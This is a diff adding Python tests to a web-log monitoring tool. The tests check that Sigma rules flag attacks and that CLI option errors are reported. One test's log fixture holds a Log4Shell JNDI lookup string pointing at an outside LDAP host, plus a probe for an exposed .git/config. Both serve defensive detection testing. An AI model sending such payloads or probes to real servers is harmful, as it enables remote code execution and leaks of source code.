@@ -167,3 +167,68 @@ def test_cli_no_alerts_stdin_and_errors(sakimori, tmp_path: Path) -> None:  # ty
                    "--json-field", "time=t", "--json-field", "path=u", str(log))  # fmt: skip
     assert run.code == 0
     assert "1 records" in run.out
+
+
+def sigma_rules() -> Path:
+    return require_data("weblogs", "sigma", "rules", "web", "webserver_generic")
+
+
+def test_sigma_rules_raise_sigma_alerts(tmp_path: Path) -> None:
+    from sakimori.monitoring.sigma import load_rule_paths
+
+    rules = load_rule_paths([sigma_rules()]).rules
+    log = tmp_path / "access.log"
+    log.write_text(
+        '203.0.113.5 - - [10/Oct/2023:08:32:01 +0000] "GET /index.php?q=${jndi:ldap://e.org/a}'
+        ' HTTP/1.1" 200 1 "-" "Mozilla/5.0"\n'
+        '203.0.113.5 - - [10/Oct/2023:08:32:02 +0000] "GET /repo/.git/config HTTP/1.1" 404 1 "-"'
+        ' "Mozilla/5.0"\n'
+        '198.51.100.1 - - [10/Oct/2023:08:32:03 +0000] "GET /about HTTP/1.1" 200 1 "-"'
+        ' "Mozilla/5.0"\n',
+        encoding="utf-8",
+    )
+    plain = watch([log])
+    assert not [a for a in plain.alerts if a.detector == "sigma"]
+    result = watch([log], WatchOptions(sigma_rules=rules))
+    sigma = [a for a in result.alerts if a.detector == "sigma"]
+    assert [(a.client, a.count) for a in sigma] == [("203.0.113.5", 2)]
+    reason = sigma[0].reason
+    assert "Source Code Enumeration Detection by Keyword" in reason
+    assert "[953d460b-f810-420a-97a2-cfca4c98e602]" in reason  # the rule id
+    assert "(high)" in reason  # the JNDI rule's level
+    # The other detectors' alerts are the same with or without Sigma.
+    assert [a for a in result.alerts if a.detector != "sigma"] == plain.alerts
+
+
+def test_cli_sigma_warnings_and_strict(sakimori) -> None:  # type: ignore[no-untyped-def]
+    everything = require_data("weblogs", "sigma")
+    log4j = require_data(
+        "weblogs", "crowdsec-hub-tests", "tests", "apache_log4j2_cve-2021-44228",
+        "apache_log4j2_cve-2021-44228.log",
+    )  # fmt: skip
+    run = sakimori("watch", "--sigma", str(everything), "--format", "json", str(log4j))
+    assert run.code == 1, run.err
+    assert "warning: sigma:" in run.err
+    assert "category proxy" in run.err
+    assert "Sigma rules loaded" in run.err
+    assert any(json.loads(line)["detector"] == "sigma" for line in run.out.splitlines())
+    run = sakimori("watch", "--sigma", str(everything), "--sigma-strict", str(sqli_log()))
+    assert run.code == 2
+    assert "Sigma rules cannot run" in run.err
+    run = sakimori("watch", "--sigma", str(sigma_rules()), "--sigma-strict", str(sqli_log()))
+    assert run.code == 1, run.err
+
+
+def test_cli_follow_and_sigma_option_errors(sakimori, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    run = sakimori("watch", "--follow", "-")
+    assert (run.code, "--follow needs log files" in run.err) == (2, True)
+    run = sakimori("watch", "--from-start", str(sqli_log()))
+    assert (run.code, "--from-start goes with --follow" in run.err) == (2, True)
+    run = sakimori("watch", "--follow", str(tmp_path / "no" / "dir" / "access.log"))
+    assert (run.code, "no such directory" in run.err) == (2, True)
+    run = sakimori("watch", "--sigma", str(tmp_path / "absent"), str(sqli_log()))
+    assert (run.code, "no such Sigma rule file" in run.err) == (2, True)
+    empty = tmp_path / "rules"
+    empty.mkdir()
+    run = sakimori("watch", "--sigma", str(empty), str(sqli_log()))
+    assert (run.code, "no Sigma rule to run" in run.err) == (2, True)
